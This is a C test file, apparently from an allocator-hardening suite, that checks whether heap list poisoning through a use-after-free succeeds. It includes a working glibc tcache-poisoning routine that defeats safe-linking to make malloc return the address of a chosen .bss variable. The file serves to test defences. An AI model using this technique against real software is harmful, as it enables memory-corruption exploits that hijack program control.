/* List poisoning through a use after free: one word written into a freed block's
 * first link (the exact-size bin's next pointer) makes a later malloc of that size
 * return an address of the attacker's choosing (a .bss variable). */
#include "sec.h"

static struct fake_block target;

/* glibc's tcache poisoning: the link of the last block freed, mangled as safe-linking
 * does (the attacker knows the block's address). */
static int glibc_variant(void)
{
    void *a = malloc(24), *b = malloc(24);
    free(a);
    free(b);
    void *want = &target.link[0];
    *(void **)launder(b) = (void *)((uintptr_t)want ^ ((uintptr_t)b >> 12));
    malloc(24);
    if (malloc(24) == want)
        worked("malloc returned the address of a .bss variable");
    failed();
}

int main(void)
{
    if (allocator() != ON_HEAPCHECK)
        return glibc_variant();
    groom();
    flush_prepare();
    void *before = malloc(24), *a = malloc(24), *after = malloc(24);
    free(a);
    flush_quarantine(); /* a is now the head of its exact-size bin */
    fake_set(&target, size_of(before), 0);
    *link_of(launder(a), 0) = &target.link[0]; /* the use after free */
    for (int i = 0; i < 64; i++) /* whichever of the bin's blocks comes out first */
        if (malloc(24) == fake_user(&target))
            worked("malloc returned the address of a .bss variable");
    launder(before);
    launder(after);
    failed();
}
